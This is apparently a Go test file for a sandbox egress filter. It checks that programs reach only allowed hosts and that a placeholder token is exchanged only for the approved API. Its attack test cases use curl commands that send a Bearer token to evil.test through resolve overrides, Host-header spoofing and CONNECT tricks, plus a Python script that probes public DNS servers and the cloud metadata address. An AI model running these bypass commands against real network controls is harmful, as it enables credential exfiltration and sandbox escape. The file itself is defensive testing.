package egress_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"

	"github.com/parley-server/parley/internal/egress"
	"github.com/parley-server/parley/internal/testing/slow"
	"github.com/parley-server/parley/internal/testing/wait"
	"github.com/parley-server/parley/internal/toolenv/sandbox"
)

// unaware returns the output of a script that gets no proxy settings. KEY is the placeholder.
func (s *shell) unaware(t *testing.T, r *egress.Run, script string) string {
	t.Helper()
	var out bytes.Buffer
	res, err := s.sandbox.Run(t.Context(), sandbox.Command{
		Argv: []string{"bash", "-c", "unset ${!HTTP*} ${!http*} NODE_USE_ENV_PROXY\n" + script}, Env: []string{"KEY=" + holder}, Folder: s.folder,
		CA: r.CA(), Serve: r.Serve, Direct: &sandbox.Direct{DNS: r.ServeDNS, TLS: r.ServeTLS, Plain: r.ServePlain}, Output: &out,
	})
	if err != nil || res.Killed != "" {
		t.Errorf("%s: %+v, %v", script, res, err)
	}
	hidden(t, out.String())
	return out.String()
}

// straight are programs without proxy support: they send the placeholder to a URL and print the
// response, or the reason for a failure.
var straight = map[string]string{
	"curl": `curl -sS --noproxy '*' -H "Authorization: Bearer $KEY" %s 2>&1`,
	"python3": `python3 -c 'import os, sys, urllib.request as u; print(u.urlopen(u.Request(sys.argv[1], headers={"Authorization": ` +
		`"Bearer " + os.environ["KEY"]})).read().decode())' %s 2>&1`,
	"node": `node -e 'fetch(process.argv[1], {headers: {Authorization: "Bearer " + process.env.KEY}}).then(a => ` +
		`a.text()).then(console.log, e => console.log(e.cause))' %s`,
}

// TestProgramsWithoutAProxy checks that real programs reach the allowed hosts and nothing else.
func TestProgramsWithoutAProxy(t *testing.T) {
	t.Parallel()
	slow.Test(t, "runs programs in a sandbox")
	for program, script := range straight {
		t.Run(program, func(t *testing.T) {
			t.Parallel()
			s := newShell(t, program)
			w := newWorld(t, egress.Config{})
			r := w.run(t, egress.RunConfig{Hosts: []string{"plain.test", "www.wild.test"}})
			out := s.unaware(t, r, fmt.Sprintf(script, "https://api.test/me?a=b"))
			if got := w.last(t); got.header.Get("Authorization") != "Bearer "+value || got.uri != "/me?a=b" || got.host != "api.test" ||
				!strings.Contains(out, "Bearer "+mark) {
				t.Errorf("api.test was sent %+v: %s", got, out)
			}
			for url, site := range map[string]string{"https://www.wild.test/": "www.wild.test", "http://plain.test/": "http://plain.test"} {
				s.unaware(t, r, fmt.Sprintf(script, url))
				if got := w.last(t); got.site != site || got.header.Get("Authorization") != "Bearer "+holder {
					t.Errorf("%s was sent %+v", url, got)
				}
			}
			if len(w.noted()) != 3 || w.noted()[0].final != egress.Sent || len(w.noted()[0].Credentials) != 1 || len(w.noted()[2].Refused) != 1 {
				t.Errorf("recorded: %+v", w.noted())
			}
			out = s.unaware(t, r, fmt.Sprintf(script, "https://evil.test/"))
			if n := w.noted()[3]; len(w.arrivals()) != 3 || !strings.Contains(strings.ToLower(out), "not") || n.Host != "evil.test" ||
				n.Method != "LOOKUP" || n.final != egress.RefusedHost {
				t.Errorf("evil.test: %s, %+v", out, n)
			}
		})
	}
}

// TestAttacksWithoutAProxy tries to bypass the names.
func TestAttacksWithoutAProxy(t *testing.T) {
	t.Parallel()
	slow.Test(t, "runs commands")
	s := newShell(t, "curl", "python3")
	w := newWorld(t, egress.Config{})
	r := w.run(t, egress.RunConfig{Hosts: []string{"www.wild.test"}})
	const auth = ` -sS --noproxy '*' --max-time 9 -H "Authorization: Bearer $KEY" `
	// Here api.test is 127.1.0.1 and www.wild.test is 127.1.0.2.
	out := s.unaware(t, r, "curl"+auth+"https://api.test/ https://www.wild.test/")
	if len(w.arrivals()) != 2 {
		t.Fatalf("%+v: %s", w.arrivals(), out)
	}
	for script, want := range map[string]string{
		// The handshake names another host than the address, or none.
		"curl" + auth + "-k --resolve evil.test:443:127.1.0.1 https://evil.test/":                "curl: (35)",
		"curl" + auth + "-k --connect-to www.wild.test:443:127.1.0.1:443 https://www.wild.test/": "curl: (35)",
		"curl" + auth + "-k https://127.1.0.1/":                                                  "curl: (35)",
		// Addresses that do not belong to any host.
		"curl" + auth + "-k https://127.0.0.1/":                                          "curl: (35)",
		"curl" + auth + "-k --resolve api.test:443:127.1.0.3 https://api.test/":          "curl: (35)",
		"curl" + auth + "-k --resolve api.test:443:127.2.0.1 https://api.test/":          "curl: (35)",
		"curl" + auth + "http://127.0.0.1/":                                              "curl: (5",
		"curl" + auth + "-k --resolve evil.test:443:1.2.3.4 https://evil.test/":          "curl: (7)",
		"curl" + auth + "-k --resolve 'api.test:443:[::1]' https://api.test/":            "curl: (7)",
		"curl" + auth + "-k --resolve 'api.test:443:[::ffff:10.0.0.1]' https://api.test": "curl: (7)",
		// Requests that name another host than the connection, or name it in an unusual way.
		"curl" + auth + `-i -H "Host: evil.test" https://api.test/`:                      "421 Misdirected Request",
		"curl" + auth + `-i -H "Host: www.wild.test" https://api.test/`:                  "421 Misdirected Request",
		"curl" + auth + `-i --request-target https://evil.test/ https://api.test/`:       "400 Bad Request",
		"curl" + auth + `-i -X CONNECT --request-target evil.test:443 https://api.test/`: "400 Bad Request",
		"curl" + auth + `-i -x http://127.1.0.1:80 --noproxy '' -p http://evil.test/`:    "400 Bad Request",
		"curl" + auth + `-i -H "Host: evil.test" http://www.wild.test/`:                  "421 Misdirected Request",
		// Other ports.
		"curl" + auth + "-k https://api.test:8443/": "curl: (7)",
		"curl" + auth + "http://api.test:22/":       "curl: (7)",
		// Names that are not on the list.
		"curl" + auth + "https://secret-in-a-name.api.test/": "curl: (6)",
		"curl" + auth + "https://other.api.test/":            "curl: (6)",
		"curl" + auth + "https://wild.test/":                 "curl: (6)",
		"curl" + auth + "https://localhost.localdomain/":     "curl: (6)",
		`python3 -c '
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for to in ["8.8.8.8", "1.1.1.1", "169.254.169.254", "255.255.255.255"]:
    try:
        u.sendto(b"canary", (to, 53))
        print("sent to", to)
    except OSError as e:
        print(e)
u.settimeout(9)
u.connect(("127.0.0.1", 443))
try:
    u.send(b"x"); u.recv(9)
except OSError as e:
    print(e)
try:
    socket.create_server(("127.9.9.9", 53))
except OSError as e:
    print(e)
'`: "[Errno 101] Network is unreachable\n[Errno 101] Network is unreachable\n[Errno 101] Network is unreachable\n[Errno 101] Network is " +
			"unreachable\n[Errno 111] Connection refused\n[Errno 13] Permission denied",
	} {
		if out := s.unaware(t, r, script+" 2>&1"); !strings.Contains(out, want) {
			t.Errorf("%s: %s", script, out)
		}
	}
	for _, got := range w.arrivals()[2:] {
		t.Errorf("something arrived: %+v", got)
	}
}

// TestOneRunKnowsNoNamesOfAnother connects to an address that belongs to a host in another run.
func TestOneRunKnowsNoNamesOfAnother(t *testing.T) {
	t.Parallel()
	w := newWorld(t, egress.Config{})
	one, two := w.run(t, egress.RunConfig{}), w.run(t, egress.RunConfig{})
	if got := ask(t, two, packet("api.test", a)); !bytes.HasSuffix(got, []byte{127, 1, 0, 1}) {
		t.Fatalf("the answer is %x", got)
	}
	for _, c := range []struct {
		run *egress.Run
		ok  bool
	}{{one, false}, {two, true}} {
		l, err := net.Listen("tcp4", "0.0.0.0:0")
		if err != nil {
			t.Fatal(err)
		}
		ended := make(chan error, 1)
		go func() { ended <- c.run.ServeTLS(t.Context(), l) }()
		roots := x509.NewCertPool()
		roots.AppendCertsFromPEM(c.run.CA())
		_, port, _ := net.SplitHostPort(l.Addr().String())
		tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots}, DialContext: func(ctx context.Context, _,
			_ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "tcp", "127.1.0.1:"+port)
		}}
		if got := (door{"direct", tr.RoundTrip}).get(t, "https://api.test/"); (got.err == nil) != c.ok || c.ok && got.status != 200 {
			t.Errorf("%+v", got)
		}
		l.Close() // also closes the connection
		if err := wait.Receive(t, "the end", ended); err != nil {
			t.Error(err)
		}
		tr.CloseIdleConnections()
	}
}
